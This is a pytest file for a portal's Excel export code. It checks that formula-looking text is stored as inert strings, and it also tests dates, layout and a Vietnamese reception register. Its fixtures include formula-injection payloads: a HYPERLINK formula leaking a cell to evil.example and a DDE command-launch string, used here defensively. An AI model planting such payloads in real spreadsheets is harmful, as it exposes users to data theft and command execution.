"""Spreadsheet exports: text that looks like a formula stays inert text, real dates and numbers,
the sheet layout (title, bold frozen header, autofilter, print setup), the Sổ tiếp công dân
columns, and rows streamed from a generator into a temporary file. Each file is read back
with openpyxl, a reader independent of the writer."""

from __future__ import annotations

import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from io import BytesIO
from typing import Any

import openpyxl
import pytest

from portal.lib.exports import (
    DATE_FORMAT,
    FIRST_DATA_ROW,
    HEADER_ROW,
    MAX_CELL_TEXT,
    RECEPTION_REGISTER_HEADERS,
    RECEPTION_REGISTER_WIDTHS,
    SUBTITLE_ROW,
    TITLE_ROW,
    looks_like_formula,
    reception_register_bytes,
    workbook_bytes,
    workbook_file,
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd",
)


def _sheet(data: bytes) -> Any:
    return openpyxl.load_workbook(BytesIO(data)).active


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as package:
        return "\n".join(
            package.read(name).decode("utf-8")
            for name in package.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_formula_looking_text_is_stored_as_plain_text() -> None:
    data = workbook_bytes("Thử", ["Giá trị", "Ghi chú"], [[value, value] for value in FORMULAS])
    ws = _sheet(data)
    for offset, value in enumerate(FORMULAS):
        for cell in ws[FIRST_DATA_ROW + offset]:
            assert cell.data_type == "s"
            assert cell.value == value
            assert cell.quotePrefix
    xml = _sheet_xml(data)
    assert not re.search(r"<(\w+:)?f[ >]", xml)
    assert "<f>" not in xml


def test_every_string_is_an_inline_string_never_a_formula() -> None:
    """Guards the premise: a formula is an <f> element or a cell of type "str"; every string
    the writer stores, banner and headers included, is an inline string."""
    data = workbook_bytes("=1+1", ["=SUM(A1)"], [["=1+1"]], subtitle="@x")
    xml = _sheet_xml(data)
    assert not re.search(r'<(\w+:)?f[ >]|t="str"', xml)
    assert xml.count('t="inlineStr"') == 4
    ws = _sheet(data)
    for row in (TITLE_ROW, SUBTITLE_ROW, HEADER_ROW, FIRST_DATA_ROW):
        assert ws.cell(row, 1).data_type == "s"
        assert ws.cell(row, 1).quotePrefix


def test_text_that_looks_like_an_office_escape_or_holds_a_return_reads_back_unchanged() -> None:
    values = ["line\r\nnext", "<b>&amp;</b>", "  spaced  ", "x\ny"]
    ws = _sheet(workbook_bytes("Thử", ["A"], [[value] for value in values]))
    assert [ws.cell(FIRST_DATA_ROW + i, 1).value for i in range(len(values))] == values
    # Excel reads "_x000D_" in a string as a carriage return: the underscore is escaped
    # (openpyxl does not decode these escapes in inline strings, so the XML is checked).
    xml = _sheet_xml(workbook_bytes("Thử", ["A"], [["a_x000D_b"]]))
    assert '<t xml:space="preserve">a_x005F_x000D_b</t>' in xml


def test_ordinary_text_is_not_marked_and_unchanged() -> None:
    ws = _sheet(workbook_bytes("Thử", ["A"], [["Khiếu nại"], ["2+2"], ["a=b"]]))
    assert [ws.cell(row, 1).value for row in range(FIRST_DATA_ROW, FIRST_DATA_ROW + 3)] == [
        "Khiếu nại",
        "2+2",
        "a=b",
    ]
    assert not any(ws.cell(row, 1).quotePrefix for row in range(FIRST_DATA_ROW, FIRST_DATA_ROW + 3))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", True), ("  +1", True), ("\t1", True), ("1-2", False), ("", False), (5, False)],
)
def test_looks_like_formula(value: object, expected: bool) -> None:
    assert looks_like_formula(value) is expected


def test_dates_numbers_and_empty_cells() -> None:
    rows = [
        [date(2026, 3, 5), 12, 2.5, None],
        [datetime(2026, 3, 5, 1, 30, tzinfo=UTC), 0, -3, "x"],
    ]
    ws = _sheet(workbook_bytes("Thử", ["Ngày", "Số", "Tỉ lệ", "Ghi chú"], rows))
    first, second = ws[FIRST_DATA_ROW], ws[FIRST_DATA_ROW + 1]

    assert first[0].value == datetime(2026, 3, 5)
    assert first[0].is_date
    assert first[0].number_format == DATE_FORMAT == "dd/mm/yyyy"
    assert (first[1].value, first[1].data_type) == (12, "n")
    assert first[2].value == 2.5
    assert first[3].value is None

    # An aware moment is shown as Vietnam's wall-clock time (UTC+7).
    assert second[0].value == datetime(2026, 3, 5, 8, 30)
    assert second[0].number_format.startswith("dd/mm/yyyy")
    assert (second[1].value, second[2].value) == (0, -3)


def test_layout_title_header_freeze_and_filter() -> None:
    data = workbook_bytes(
        "Danh sách đơn",
        ["Mã hồ sơ", "Ngày nhận", "Nội dung"],
        [["2026/0001", date(2026, 3, 1), "a"], ["2026/0002", date(2026, 3, 2), "b"]],
        subtitle="Tháng 3/2026",
        column_widths=[12, 14, 40],
    )
    ws = _sheet(data)
    assert ws.title == "Danh sách đơn"
    assert ws.cell(TITLE_ROW, 1).value == "Danh sách đơn"
    assert ws.cell(TITLE_ROW, 1).font.bold
    assert ws.cell(SUBTITLE_ROW, 1).value == "Tháng 3/2026"
    assert [c.value for c in ws[HEADER_ROW]] == ["Mã hồ sơ", "Ngày nhận", "Nội dung"]
    assert all(c.font.bold for c in ws[HEADER_ROW])
    assert not ws.cell(FIRST_DATA_ROW, 1).font.bold
    assert ws.freeze_panes == f"A{FIRST_DATA_ROW}" == "A4"
    assert ws.auto_filter.ref == "A3:C5"
    assert [ws.column_dimensions[letter].width for letter in "ABC"] == [12, 14, 40]
    assert "A1:C1" in {str(r) for r in ws.merged_cells.ranges}


def test_layout_is_the_same_without_subtitle_or_rows() -> None:
    ws = _sheet(workbook_bytes("Trống", ["A", "B"], iter(())))
    assert ws.cell(SUBTITLE_ROW, 1).value is None
    assert [c.value for c in ws[HEADER_ROW]] == ["A", "B"]
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:B3"


def test_rows_are_padded_but_never_truncated() -> None:
    ws = _sheet(workbook_bytes("Thử", ["A", "B", "C"], [["x"]]))
    assert [c.value for c in ws[FIRST_DATA_ROW]] == ["x", None, None]
    with pytest.raises(ValueError, match="4 cells for 3 columns"):
        workbook_bytes("Thử", ["A", "B", "C"], [[1, 2, 3, 4]])


def test_vietnamese_text_round_trips_in_nfc() -> None:
    text = "Nguyễn Thị Hoà, Đặng Việt — phường Tân Ninh"
    ws = _sheet(
        workbook_bytes("Tiếng Việt", ["Họ tên"], [[text], [unicodedata.normalize("NFD", text)]])
    )
    assert ws.cell(FIRST_DATA_ROW, 1).value == text
    assert ws.cell(FIRST_DATA_ROW + 1, 1).value == text


def test_unstorable_text_is_cleaned() -> None:
    ws = _sheet(workbook_bytes("Thử", ["A"], [["a\x00b\x1fc\td"], ["x" * (MAX_CELL_TEXT + 10)]]))
    assert ws.cell(FIRST_DATA_ROW, 1).value == "abc\td"
    assert len(ws.cell(FIRST_DATA_ROW + 1, 1).value) == MAX_CELL_TEXT


def test_sheet_name_is_made_valid() -> None:
    ws = _sheet(workbook_bytes("Báo cáo [quý 1]: tổng hợp/chi tiết theo lĩnh vực", ["A"], []))
    assert len(ws.title) <= 31
    assert not set(ws.title) & set("[]:*?/\\")


def test_reception_register() -> None:
    # Mẫu số 03 has 12 columns, each with its width; the wording is read from the code.
    assert len(RECEPTION_REGISTER_HEADERS) == len(RECEPTION_REGISTER_WIDTHS) == 12
    row = [
        1,
        date(2026, 3, 16),
        "Trần Thị Hoa - phường Tân Ninh, tỉnh Tây Ninh",
        "072190001234",
        "=Đề nghị xem xét lại quyết định xử phạt",
        "Khiếu nại / 1",
        None,
        "x",
        None,
        None,
        "2026/0012: Đang giải quyết",
        None,
    ]
    data = reception_register_bytes("Tháng 3/2026", [row])
    ws = _sheet(data)
    assert ws.cell(TITLE_ROW, 1).value == "SỔ TIẾP CÔNG DÂN"
    assert ws.cell(SUBTITLE_ROW, 1).value == "Tháng 3/2026"
    assert tuple(c.value for c in ws[HEADER_ROW]) == RECEPTION_REGISTER_HEADERS
    values = [c.value for c in ws[FIRST_DATA_ROW]]
    assert values[0] == 1
    assert values[1] == datetime(2026, 3, 16)
    assert values[2:] == row[2:]
    assert ws.cell(FIRST_DATA_ROW, 4).data_type == "s"  # the ID keeps its leading zero
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:L4"
    assert ws.page_setup.orientation == "landscape"
    assert "<f>" not in _sheet_xml(data)


def test_rows_from_a_generator_go_to_a_temporary_file_and_the_subtitle_may_count_them() -> None:
    def rows():  # type: ignore[no-untyped-def]
        for number in range(1, 2501):
            yield [number, f"Đơn {number}", date(2026, 1, 1 + number % 28)]

    file, count = workbook_file(
        "Danh sách", ["STT", "Nội dung", "Ngày"], rows(), subtitle=lambda n: f"{n} đơn"
    )
    with file:
        assert count == 2500
        ws = openpyxl.load_workbook(file).active
    assert ws.cell(SUBTITLE_ROW, 1).value == "2500 đơn"
    assert ws.max_row == HEADER_ROW + 2500
    assert [c.value for c in ws[HEADER_ROW + 2500]] == [2500, "Đơn 2500", datetime(2026, 1, 9)]
    assert ws.auto_filter.ref == "A3:C2503"


def test_borders_wrapping_widths_and_print_setup() -> None:
    data = workbook_bytes(
        "Thử",
        ["Ngắn", "Một cột có tiêu đề dài"],
        [["x" * 80, None], ["a\nbb", 5]],
        subtitle="Phụ đề",
    )
    ws = _sheet(data)
    header, first = ws.cell(HEADER_ROW, 1), ws.cell(FIRST_DATA_ROW, 2)
    assert header.alignment.horizontal == "center" and header.alignment.wrap_text
    assert header.border.left.style == header.border.bottom.style == "thin"
    assert first.value is None and first.border.top.style == "thin"  # a blank cell is boxed
    assert ws.cell(FIRST_DATA_ROW, 1).alignment.vertical == "top"
    assert ws.cell(FIRST_DATA_ROW, 1).alignment.wrap_text
    assert ws.cell(TITLE_ROW, 1).font.sz == 14
    assert ws.cell(SUBTITLE_ROW, 1).font.i
    # the widths follow the longest line, between 10 and 50 characters
    assert [ws.column_dimensions[letter].width for letter in "AB"] == [50, 24]
    assert ws.page_setup.paperSize == 9  # A4
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$3:$3"


def test_numbers_booleans_times_and_other_values() -> None:
    from datetime import time
    from decimal import Decimal

    ws = _sheet(
        workbook_bytes(
            "Thử",
            ["A", "B", "C", "D", "E"],
            [[True, Decimal("2.50"), time(8, 30), float("inf"), 1e-7]],
        )
    )
    row = [c.value for c in ws[FIRST_DATA_ROW]]
    assert row[0] is True
    assert row[1] == 2.5
    assert row[2] == time(8, 30)
    assert row[3] == "inf"  # Excel has no infinity: written as its text
    assert row[4] == 1e-7
